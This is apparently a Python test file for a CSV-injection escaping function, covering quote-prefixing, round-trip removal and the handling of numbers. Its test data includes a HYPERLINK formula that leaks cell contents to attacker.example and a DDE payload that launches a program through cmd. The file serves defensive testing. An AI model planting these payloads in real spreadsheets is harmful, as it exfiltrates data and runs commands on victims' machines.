"""Formula-safe CSV cells (OWASP CSV injection) and the import rule that takes our quote off again."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.spreadsheet_cells import formula_escape_removed, formula_safe_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(("text", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    # A quote that the import would take for ours gets one more; any other leading quote is left alone.
    ("'=1+1", "''=1+1"),
    ("''", "'''"),
    ("'Tis the season", "'Tis the season"),
    ("'", "'"),
    # Plain numbers written as text stay numbers in the spreadsheet.
    ("-1", "-1"), ("-0.25", "-0.25"), ("+3", "+3"), ("-1e-5", "-1e-5"), ("-.5", "-.5"),
    ("ordinary text = fine", "ordinary text = fine"), ("", ""),
])
def test_text_that_would_run_gets_a_quote(text, written):
    assert formula_safe_cell(text) == written
    assert formula_escape_removed(written) == text


@pytest.mark.parametrize("value", [-1, -0.25, 0, 3.5, None, True])
def test_numbers_and_other_values_are_untouched(value):
    assert formula_safe_cell(value) is value


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1 .e"), max_size=6) | st.text())
def test_every_text_round_trips(text):
    written = formula_safe_cell(text)
    assert formula_escape_removed(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or float(written) is not None
